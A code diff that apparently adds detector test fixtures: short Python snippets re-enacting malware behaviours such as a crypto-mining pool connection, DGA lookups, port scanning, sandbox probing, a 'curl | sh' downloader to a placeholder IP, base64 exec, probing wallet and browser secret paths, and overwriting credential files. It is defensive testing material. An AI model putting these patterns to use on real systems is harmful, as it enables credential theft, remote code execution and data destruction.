@@ -108,6 +108,82 @@ if ACT and os.fork() == 0:
         os.execv("/bin/sleep", ["sleep", "60"])
     os._exit(0)
 """,
+    "mining": """\
+if ACT:
+    with socket.create_connection(("203.0.113.9", 3333), timeout=5) as connection:
+        connection.sendall(b'{"id": 1, "method": "mining.subscribe", "params": []}\\n')
+""",
+    "dga-burst": """\
+if ACT:
+    for number in range(12):
+        try:
+            socket.gethostbyname(f"xq{number}k7w{number}zv3b.invalid")
+        except OSError:
+            pass
+""",
+    "network-scan": """\
+if ACT:
+    for number in range(30):
+        with socket.socket() as probe:
+            probe.connect_ex(("127.0.0.1", 20000 + number))
+""",
+    "sandbox-probing": """\
+if ACT:
+    for name in ("/sys/class/dmi/id/product_name", "/.dockerenv", "/sys/class/net/eth0/address"):
+        try:
+            open(name).close()
+        except OSError:
+            pass
+""",
+    "environment-dump": """\
+if ACT:
+    pathlib.Path("/proc/self/environ").read_bytes()
+""",
+    "worm-publish": """\
+if ACT:
+    try:
+        subprocess.run(["twine", "upload", "nothing"])
+    except OSError:
+        pass
+""",
+    "foreign-runtime": """\
+if ACT:
+    path = HOME / "bun"
+    path.write_bytes(pathlib.Path("/bin/true").read_bytes())
+    path.chmod(0o755)
+    subprocess.run([str(path)])
+""",
+    "exec-downloader": """\
+if ACT:
+    os.system("true || curl -s http://203.0.113.7/ | sh")
+""",
+    "mass-file-change": """\
+if ACT:
+    for name in (".npmrc", ".netrc", ".pypirc", ".git-credentials"):
+        with (HOME / name).open("r+b") as file:
+            file.write(b"locked")
+""",
+    "exec-hidden": """\
+if ACT:
+    subprocess.run(["/env/bin/python", "-c", "import base64;exec(base64.b64decode('cGFzcw=='))"])
+""",
+    "others-files-changed": """\
+if ACT:
+    try:
+        (pathlib.Path(os.__file__).parent / "antigravity.py").open("a").close()
+    except OSError:
+        pass
+""",
+    "secrets-searched": """\
+if ACT:
+    for name in (".mozilla/firefox", ".config/Exodus", ".config/discord", ".bash_history"):
+        (HOME / name).exists()
+""",
+    "decoy-written": """\
+if ACT:
+    with (HOME / ".npmrc").open("a") as file:
+        file.write("# nothing\\n")
+""",
 }
 """Detector → the module that re-enacts what it looks for."""
 
